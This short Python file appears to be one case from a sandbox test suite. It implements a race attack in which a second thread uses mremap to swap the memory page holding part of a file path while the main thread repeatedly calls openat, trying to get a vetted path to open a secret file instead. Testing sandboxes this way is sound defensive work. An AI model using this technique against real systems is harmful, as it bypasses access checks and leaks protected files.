# SPDX-License-Identifier: Apache-2.0
# attack: the path crosses a page edge and another thread replaces the second page
# class: race
# wins: leak
# needs: race
from kit import *

base = page(3 * 4096)
good, bad = os.fsencode(GOOD) + b'\0', os.fsencode(SECRET) + b'\0'
split = len(os.fsencode(BOX)) - 1  # the digit of box0 is the first byte of the second page
path = base + 4096 - split
ctypes.memmove(path, good, len(good))
fds = []
for content in (good, bad):
    p = page(4096)
    ctypes.memmove(p, content[split:], len(content) - split)
    fds.append(p)
tried()


def swap():
    """mremap a fresh copy over the second page, or leave a hole there."""
    for p in fds:
        copy = page(4096)
        ctypes.memmove(copy, p, 4096)
        sc('mremap', copy, 4096, 4096, 3, base + 4096)
    sc('munmap', base + 4096, 4096)


end = loop_thread(swap)
rounds(lambda i: took(sc('openat', AT_FDCWD, ctypes.c_void_p(path), 0, 0)))
end()
